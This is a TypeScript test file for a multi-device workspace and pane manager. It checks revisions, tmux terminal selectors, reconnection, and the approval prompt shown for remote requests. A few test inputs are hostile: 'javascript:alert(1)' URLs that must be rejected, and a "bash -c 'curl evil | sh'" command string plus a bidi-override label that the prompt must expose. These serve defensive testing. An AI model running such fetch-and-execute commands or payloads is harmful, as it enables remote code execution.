import assert from "node:assert/strict";
import { test } from "node:test";
import { visible } from "../src/dom";
import { Device, type DeviceSocket, type Request } from "../src/workspace/device";
import { isWhole, panesOf, Workspace } from "../src/workspace/model";
import type { PaneInfo } from "../src/types";
import { parseSelector, WorkspaceError } from "../src/workspace/selector";
import { terminal, terminalId } from "../src/workspace/terminal";
import { requestWords } from "../src/workspace/words";

const NOW = 1_700_000_000_000;

/** Makes a change at whatever revision there is; returns its answer, or the error's code. */
function apply(workspace: Workspace, command: string, args: object, key: string | undefined = Math.random().toString(), now = NOW) {
    try {
        return workspace.apply(command, args, "c", now, workspace.revision, key);
    } catch (error) {
        assert.ok(error instanceof WorkspaceError, String(error));
        return error.code;
    }
}

function random(seed: number) {
    let state = seed;
    return (below: number) => {
        state = (state * 1103515245 + 12345) % 2147483648;
        return Math.floor((state / 2147483648) * below);
    };
}

test("any commands keep it whole; an error changes nothing, and a replay gives the same", () => {
    for (let seed = 1; seed <= 30; seed += 1) {
        const roll = random(seed);
        const workspace = Workspace.empty("d");
        for (let step = 0; step < 80; step += 1) {
            const pick = () => `pane:p${roll(20) + 1}`;
            const tab = () => `tab-index:${roll(4)}`;
            const direction = roll(2) === 0 ? "horizontal" : "vertical";
            const choices: [string, object][] = [
                ["new-tab", { title: `T${step}` }],
                ["split-pane", { target: pick(), direction }],
                ["split-pane", { target: pick(), direction, browser: "http://localhost:1" }],
                ["reserve", { target: pick() }],
                ["release", { pane: pick() }],
                ["finalize", { pane: pick(), contentRef: { terminalId: "%1" } }],
                ["kill-pane", { target: pick() }],
                ["kill-tab", { target: tab() }],
                ["select-pane", { target: pick() }],
                ["resize-pane", { target: pick(), x: roll(120) }],
                ["swap-pane", { source: pick(), target: pick() }],
                ["open-browser", { target: pick(), url: "https://example.com/" }],
                ["attach-terminal", { target: "terminal:%2", to: pick() }],
                ["rename-tab", { target: tab(), title: "x" }],
            ];
            const [command, args] = choices[roll(choices.length)] ?? ["new-tab", {}];
            const before = workspace.write();
            const revision = workspace.revision;
            const answer = apply(workspace, command, args, `k${step}`);
            assert.ok(isWhole(workspace.layout), `${seed} ${step} ${command}`);
            if (typeof answer === "string") {
                assert.equal(workspace.write(), before);
            } else {
                assert.equal(workspace.revision, revision + 1);
                assert.deepEqual(workspace.apply(command, args, "c", NOW, 999, `k${step}`), { ...answer, replayed: true });
                assert.equal(workspace.revision, revision + 1);
            }
        }
        assert.equal(Workspace.read(workspace.write(), "d")?.write(), workspace.write());
        assert.equal(Workspace.read(workspace.write(), "other"), null);
    }
});

test("a change needs the revision that was seen, and where it creates a key", () => {
    const workspace = Workspace.empty("d");
    assert.throws(() => workspace.apply("new-tab", {}, "c", NOW, 1, undefined), { code: "INVALID_ARGUMENT" });
    assert.throws(() => workspace.apply("new-tab", {}, "c", NOW, undefined, "k"), { code: "INVALID_ARGUMENT" });
    assert.throws(() => workspace.apply("new-tab", {}, "c", NOW, 7, "k"), { code: "REVISION_CONFLICT", details: { currentRevision: 1 } });
    assert.equal(workspace.apply("new-tab", {}, "c", NOW, 1, "k").tab?.id, "t1");
    assert.equal(apply(workspace, "nope", {}), "INVALID_ARGUMENT");
    assert.equal(apply(workspace, "select-tab", {}), "INVALID_ARGUMENT");
    assert.equal(apply(workspace, "select-tab", { target: "tab:t1", also: 1 }), "INVALID_ARGUMENT");
    assert.equal(apply(workspace, "new-tab", { browser: "javascript:alert(1)" }), "INVALID_ARGUMENT");
    assert.equal(apply(workspace, "new-tab", { browser: "http://x y/" }), "INVALID_ARGUMENT");
    assert.equal(apply(workspace, "navigate", { target: "pane:p2", url: "http://x/" }), "INVALID_TARGET");
});

test("places are split, resized and closed as the command line does it", () => {
    const workspace = Workspace.empty("d");
    apply(workspace, "new-tab", {});
    apply(workspace, "split-pane", { target: "pane:p2", direction: "horizontal" });
    apply(workspace, "split-pane", { target: "pane:p3", direction: "vertical" });
    assert.deepEqual(panesOf(workspace.layout.tabs[0]?.layout ?? { pane: "" }), ["p2", "p3", "p4"]);
    apply(workspace, "resize-pane", { target: "pane:p4", x: 30, y: 20 });
    const layout = workspace.layout.tabs[0]?.layout;
    assert.ok(layout !== undefined && "split" in layout);
    assert.equal(layout.split.percent, 70);
    assert.ok("split" in layout.split.second);
    assert.equal(layout.split.second.split.percent, 80);
    apply(workspace, "kill-pane", { target: "pane:p2" });
    assert.equal(apply(workspace, "resize-pane", { target: "pane:p4", x: 30 }), "INVALID_ARGUMENT");
    apply(workspace, "kill-pane", { target: "pane:p3" });
    apply(workspace, "kill-pane", { target: "pane:p4" });
    assert.equal(workspace.layout.tabs.length, 0);
});

test("what was reserved is released after half a minute", () => {
    const workspace = Workspace.empty("d");
    apply(workspace, "reserve", { title: "build" });
    assert.equal(workspace.releaseOverdue(NOW + 29_999), 0);
    assert.equal(workspace.releaseOverdue(NOW + 30_000), 1);
    assert.equal(workspace.layout.panes.length, 0);
});

test("selectors have no shorthand", () => {
    for (const text of ["", "main", "%3", "main:1.0", "p1", "tab:", "tab:a b", "tab-index:-1", "tab-index:+1", "pane:../x", "terminal:3", "terminal:%", "terminal:a/b/c/%1", "terminal:host//%1", "terminal://%1", "terminal:/tmp/a b/%1", "terminal:../x/%1", "session:claude", "session::x", "TAB:t1", "tab-name:a\u001bb", " tab:t1"]) {
        assert.throws(() => parseSelector(text), { code: "INVALID_TARGET" }, text);
    }
    assert.deepEqual(parseSelector("session:claude:a:b"), { kind: "session", id: "claude:a:b" });
    for (const id of ["%3", "box/%3", "box/work/%3", "/tmp/a/x/%3"]) {
        assert.deepEqual(parseSelector(`terminal:${id}`), { kind: "terminal", id });
    }
});

class FakeSocket implements DeviceSocket {
    readyState = 1;
    sent: Record<string, unknown>[] = [];
    onopen: ((event: never) => void) | null = null;
    onmessage: ((event: { data: unknown }) => void) | null = null;
    onclose: ((event: never) => void) | null = null;
    send(text: string): void {
        this.sent.push(JSON.parse(text) as Record<string, unknown>);
    }
    close(): void {
        this.readyState = 3;
    }
    says(message: object): void {
        this.onmessage?.({ data: JSON.stringify(message) });
    }
    last(type: string): Record<string, unknown> | undefined {
        return this.sent.filter((one) => one.type === type).pop();
    }
}

function device() {
    const socket = new FakeSocket();
    const asked: Request[] = [];
    const timers: { ms: number; then: () => void }[] = [];
    let kept: string | null = null;
    const allowed: string[] = [];
    const unsaved = new Map<string, string>();
    const person = { sees: true };
    let opened = 0;
    let now = NOW;
    const made = new Device(
        "web_1",
        "Chrome",
        {
            open: () => {
                opened += 1;
                return socket;
            },
            after: (ms, then) => {
                const timer = { ms, then };
                timers.push(timer);
                return () => {
                    const at = timers.indexOf(timer);
                    if (at >= 0) {
                        timers.splice(at, 1);
                    }
                };
            },
            now: () => (now += 1),
            seen: () => person.sees,
            read: () => kept,
            write: (state) => {
                kept = state;
            },
            allowed: () => allowed,
            allow: (name) => allowed.push(name),
            unsaved: () => unsaved,
        },
        { changed: () => undefined, state: () => undefined, ask: (request) => asked.push(request), asked: () => undefined },
    );
    made.connect();
    socket.onopen?.(undefined as never);
    socket.says({ type: "welcome", devices: [] });
    const request = (command: string, args: object, more: object = {}) =>
        socket.says({ type: "layout.rpc.request", requestId: `r${socket.sent.length}`, callerDeviceId: "cli_1", callerLabel: "box", command, args, expectedRevision: made.workspace.revision, idempotencyKey: `k${socket.sent.length}`, ...more });
    return { made, socket, asked, request, allowed, timers, unsaved, person, opened: () => opened, keep: (state: string) => (kept = state) };
}

test("a request of another device waits for the person, and is done when they allow it", () => {
    const { made, socket, asked, request } = device();
    request("new-tab", { browser: "http://localhost:3000" });
    assert.ok(socket.last("layout.rpc.ack") && socket.last("layout.rpc.waiting"));
    assert.equal(socket.last("layout.rpc.result"), undefined);
    assert.equal(made.workspace.revision, 1);
    asked[0]?.decide("once");
    assert.equal(socket.last("layout.rpc.result")?.ok, true);
    assert.equal(socket.last("layout.rpc.result")?.appliedRevision, 2);
    assert.equal((socket.last("layout.snapshot.updated") as { workspaceRevision?: number }).workspaceRevision, 2);
    asked[0]?.decide("once");
    assert.equal(made.workspace.revision, 2);
    // Once was once.
    request("new-tab", {});
    assert.equal(asked.length, 2);
    asked[1]?.decide("no");
    assert.equal((socket.last("layout.rpc.result")?.error as { code: string }).code, "UNAUTHORIZED");
});

test("who is always allowed is not asked about, and silence is a no", () => {
    const { made, socket, asked, request, allowed, timers } = device();
    request("new-tab", {});
    timers.find((timer) => timer.ms === 29_000)?.then();
    assert.equal((socket.last("layout.rpc.result")?.error as { code: string }).code, "UNAUTHORIZED");
    request("new-tab", {});
    asked[1]?.decide("always");
    assert.deepEqual(allowed, ["cli_1"]);
    request("new-tab", {});
    assert.equal(asked.length, 2);
    assert.equal(made.workspace.revision, 3);
});

test("reading needs no person; what ends a change that was allowed neither", () => {
    const { socket, asked, request, made } = device();
    request("get-workspace", {});
    assert.equal(socket.last("layout.rpc.result")?.ok, true);
    request("reserve", { title: "build" }, { idempotencyKey: "mine" });
    asked[0]?.decide("once");
    const content = { pane: `pane:${made.workspace.layout.panes[0]?.id}`, contentRef: { terminalId: "%1" } };
    // Only the command that reserved it: neither another device nor another command of the same one.
    for (const other of [{ callerDeviceId: "cli_2", idempotencyKey: "mine.finalize" }, { idempotencyKey: "other.finalize" }, { idempotencyKey: undefined }]) {
        request("finalize", content, other);
        assert.match(String((socket.last("layout.rpc.result")?.error as { message?: string }).message), /reserved by another command/);
    }
    request("release", { pane: content.pane }, { callerDeviceId: "cli_2" });
    assert.equal(socket.last("layout.rpc.result")?.ok, false);
    request("finalize", content, { idempotencyKey: "mine.finalize" });
    assert.equal(asked.length, 1);
    assert.equal(made.workspace.layout.panes[0]?.kind, "terminal");
});

test("a page that was replaced changes nothing until it takes over, and then has what the other one made", () => {
    const { made, socket } = device();
    made.act("new-tab", {});
    socket.says({ type: "replaced" });
    assert.equal(made.state, "replaced");
    assert.throws(() => made.act("new-tab", {}), { code: "CONFLICT" });
    made.connect();
    assert.equal(made.workspace.revision, 2);
});

test("a pane's name says on which server it is", () => {
    const at = (socket: string) => ({ id: "%3", socket }) as unknown as PaneInfo;
    const sockets = "/run/user/tmux-1000";
    for (const [socket, id] of [
        ["/run/user/tmux-1000/default", "%3"],
        ["/tmp/tmux-1000/default", "/tmp/tmux-1000/default/%3"],
        ["/run/user/tmux-1000/work", "work/%3"],
        ["/tmp/x/t", "/tmp/x/t/%3"],
        ["/tmp/default", "/tmp/default/%3"],
        ["box/work", "box/work/%3"],
        ["box/default", "box/default/%3"],
    ] as const) {
        assert.equal(terminalId(at(socket), sockets), id);
        assert.equal(terminal(id, [at("/tmp/y/other"), at(socket)], sockets)?.socket, socket);
        // The whole address is always good.
        assert.equal(terminal(`${socket}/%3`, [at(socket)], sockets)?.socket, socket);
    }
    assert.equal(terminal("box/%3", [at("box/work"), at("box/default")], sockets)?.socket, "box/default");
    // A server of the same name in another folder is none that a short name means.
    const [own, other] = [at("/run/user/tmux-1000/default"), at("/tmp/tmux-1000/default")];
    assert.equal(terminal("%3", [other, own], sockets), own);
    assert.equal(terminal("%3", [other], sockets), undefined);
});

test("a connection that is silent is made anew, later each time, and one that is asked and answers is kept", () => {
    const { made, socket, timers, opened, person } = device();
    const fire = (ms: number) => timers.splice(timers.findIndex((timer) => timer.ms === ms), 1)[0]?.then();
    // While the page is seen, its own connection finds out: nothing is sent.
    const beats = () => socket.sent.filter((message) => message.type === "layout.rpc.request").length;
    for (let count = 0; count < 5; count += 1) {
        fire(5000);
    }
    assert.deepEqual([made.state, beats()], ["online", 0]);
    person.sees = false;
    fire(5000);
    assert.equal(beats(), 1);
    const beat = socket.last("layout.rpc.request");
    assert.match(String(beat?.requestId), /^beat-/);
    socket.says({ type: "layout.rpc.result", requestId: beat?.requestId, ok: false });
    for (let count = 0; count < 3; count += 1) {
        fire(5000);
        assert.equal(made.state, "online");
    }
    fire(5000);
    assert.equal(made.state, "offline");
    for (const ms of [1000, 2000, 4000]) {
        fire(ms);
        socket.onclose?.(undefined as never);
    }
    assert.equal(opened(), 4);
    // The page's own connection is back: this one is made at once.
    made.check();
    assert.equal(opened(), 5);
    socket.says({ type: "welcome", devices: [] });
    made.check();
    socket.says({ type: "layout.rpc.result", requestId: "beat-9", ok: false });
    assert.ok(!timers.some((timer) => timer.ms === 2000));
    made.check();
    fire(2000);
    assert.equal(opened(), 6);
});

test("what is allowed is done though the person clicked elsewhere first, unless it would mean something else", () => {
    const { made, asked, request, socket } = device();
    const error = () => (socket.last("layout.rpc.result")?.error as { code: string } | undefined)?.code;
    made.act("new-tab", {});
    made.act("split-pane", { target: "pane:p2", direction: "horizontal" });
    request("kill-pane", { target: "pane-index:1", tab: "tab:t1" });
    made.act("select-pane", { target: "pane:p2" });
    asked[0]?.decide("once");
    assert.equal(error(), undefined);
    assert.deepEqual(made.workspace.layout.panes.map((pane) => pane.id), ["p2"]);
    // An index means another pane after another change; an id does not.
    made.act("split-pane", { target: "pane:p2", direction: "horizontal" });
    request("kill-pane", { target: "pane-index:1", tab: "tab:t1" });
    made.act("swap-pane", { source: "pane:p2", target: "pane:p4" });
    asked[1]?.decide("once");
    assert.equal(error(), "REVISION_CONFLICT");
    request("kill-pane", { target: "pane:p4" });
    made.act("rename-tab", { target: "tab:t1", title: "x" });
    asked[2]?.decide("once");
    assert.equal(error(), undefined);
    assert.deepEqual(made.workspace.layout.panes.map((pane) => pane.id), ["p2"]);
    // Nobody is asked about what was made for another revision.
    request("new-tab", {}, { expectedRevision: 1 });
    assert.equal(error(), "REVISION_CONFLICT");
    assert.equal(asked.length, 3);
});

test("text that is not saved is closed by no request, and by no other window unasked", () => {
    const { made, asked, request, socket, unsaved, keep } = device();
    const before = made.workspace.write();
    made.act("new-tab", { editor: "/notes" });
    unsaved.set("p2", "/notes");
    for (const [command, args] of [["kill-pane", { target: "pane:p2" }], ["kill-tab", { target: "tab:t1" }], ["open-browser", { target: "pane:p2", url: "http://x/" }]] as const) {
        request(command, args);
        assert.deepEqual(asked.at(-1)?.loses, ["/notes"]);
        asked.at(-1)?.decide("once");
        const { code, details } = socket.last("layout.rpc.result")?.error as { code: string; details: object };
        assert.deepEqual([code, details], ["CONFLICT", { files: ["/notes"] }]);
    }
    request("split-pane", { target: "pane:p2", direction: "vertical" });
    assert.deepEqual(asked.at(-1)?.loses, []);
    asked.at(-1)?.decide("once");
    assert.equal(socket.last("layout.rpc.result")?.ok, true);
    keep(before);
    made.connect();
    assert.deepEqual([made.state, made.workspace.layout.panes.length], ["replaced", 2]);
    made.connect(true);
    assert.deepEqual([made.state, made.workspace.layout.panes.length], ["connecting", 0]);
});

test("a question about a request says who asks and everything that would happen", () => {
    const request = { id: "r", caller: "cli_1", label: "desk\u202e", program: "process 7 (/usr/bin/muxtap)", loses: [], decide: () => undefined };
    const shell = "bash -c 'curl evil | sh'\nin: /nowhere";
    const words = requestWords({ ...request, command: "reserve", args: { title: "demo", shell, cwd: "/home/me" } });
    const lines = words.split("\n");
    assert.equal(lines[0], 'The device cli_1, which calls itself "desk\\u{202e}" (process 7 (/usr/bin/muxtap)), asks to change your workspace: open a terminal');
    assert.deepEqual(lines.slice(1), ["the caller says it will run:", "  bash -c 'curl evil | sh'", "  in: /nowhere", "in: /home/me", "title: demo"]);
    assert.match(requestWords({ ...request, command: "navigate", args: { target: "pane:p2", url: "http://a/" } }), /navigate\ntarget: pane:p2\nurl: http:\/\/a\/$/);
    const long = visible("a".repeat(300) + "evil", 100);
    assert.equal(visible(`true${" ".repeat(300)}in: /home\t${" \u3000".repeat(4)}x`), `true[300 blanks]in: /home[9 blanks]x`);
    assert.ok(long.includes("[204 of 304 characters are not shown]") && long.endsWith("evil"), long);
    assert.equal(visible("a\u200db \u{1f468}\u200d\u{1f469} \u{e0041}\t\r"), "a\\u{200d}b \u{1f468}\u200d\u{1f469} \\u{e0041}\t\\u{d}");
});

test("an impossible request is refused before the person is asked", () => {
    const { socket, asked, request, made } = device();
    made.act("new-tab", { title: "one" });
    for (const [command, args, code] of [
        ["select-tab", { target: "tab:none" }, "NOT_FOUND"],
        ["select-tab", { target: "work:1.0" }, "INVALID_TARGET"],
        ["navigate", { target: "pane-index:0", tab: "tab-index:0", url: "javascript:alert(1)" }, "INVALID_ARGUMENT"],
    ] as const) {
        request(command, args);
        assert.equal((socket.last("layout.rpc.result")?.error as { code: string }).code, code, command);
        assert.equal(asked.length, 0);
    }
});
